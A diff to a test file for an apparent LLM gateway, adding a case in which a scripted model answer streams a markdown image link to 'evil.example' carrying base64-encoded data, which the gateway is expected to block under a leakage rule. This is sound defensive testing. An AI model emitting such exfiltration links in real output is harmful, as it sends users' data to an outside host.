@@ -33,13 +33,15 @@ def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Stand]:
 
 @pytest.fixture(scope="module")
 def called(gateway: Stand) -> Stand:
-    """Two that are answered, one of them streamed; two that are masked; one that fails; one that is denied."""
+    """Two that are answered, one of them streamed; two masked; one answer blocked; one that fails; one denied."""
     gateway.script(answers("fine and well", delay=0.06))
     assert chat(gateway, "how is it?").status == 200
     assert chat(gateway, "how is it?", stream=True).text == "fine and well"
     gateway.script(parrot())
     assert chat(gateway, f"write to {MAIL}", model="large").status == 200
     assert chat(gateway, f"the key is {SECRET}", model="large").status == 200
+    gateway.script(answers("", chunks=["Look: ", f"![a](https://evil.example/p?d={'c2VjcmV0IGRhdGEgb2Yg' * 4})"]))
+    assert chat(gateway, "A picture, please.").status == 403
     gateway.script(refuses(500))
     assert chat(gateway, "well?").status >= 500
     assert chat(gateway, "well?", model="nobody").status in (400, 404, 422)
@@ -55,13 +57,15 @@ async def get(stand: Stand, path: str) -> Any:
 async def test_calls_are_told_by_what_became_of_them(called: Stand) -> None:
     found = await get(called, "traffic")
     totals, models = found["totals"], {row["model"]: row for row in found["models"]}
-    assert (totals["calls"], totals["failed"], totals["denied"]) == (6, 1, 1)
+    assert (totals["calls"], totals["failed"], totals["denied"], totals["blocked"]) == (7, 1, 1, 1)
     assert totals["masked"] == 2 and totals["usd"] > 0 and totals["inputTokens"] > 0
-    assert {name: row["calls"] for name, row in models.items()} == {"small": 3, "large": 2, "vectors": 0, "": 1}
+    assert {name: row["calls"] for name, row in models.items()} == {"small": 4, "large": 2, "vectors": 0, "": 1}
     assert (models["small"]["failed"], models[""]["denied"], models[""]["p50"]) == (1, 1, None)
     assert models["vectors"]["p50"] is None and found["models"][0]["model"] == "small"
     rules = {(row["rule"], row["action"]): row["count"] for row in found["rules"]}
-    assert rules == {("pii/email", "mask"): 1, ("secrets/aws-access-key", "mask"): 1}
+    ((blocking, count),) = [(rule, count) for (rule, action), count in rules.items() if action == "block"]
+    assert blocking.startswith("leakage/") and count == 1 and rules["pii/email", "mask"] == 1
+    assert rules["secrets/aws-access-key", "mask"] == 1
 
 
 async def test_the_series_has_no_holes(called: Stand) -> None:
@@ -78,7 +82,7 @@ async def test_the_series_has_no_holes(called: Stand) -> None:
         assert [later - one for one, later in pairwise(times)] == [step] * (len(times) - 1)
         assert found["series"][0]["time"] == found["since"] and all(moment % step == 0 for moment in times)
         assert all(set(point) == _KEYS | {"time"} for point in found["series"])
-        assert sum(point["calls"] for point in found["series"]) == found["totals"]["calls"] == 6
+        assert sum(point["calls"] for point in found["series"]) == found["totals"]["calls"] == 7
         assert found["series"][0]["p50"] is None
 
 
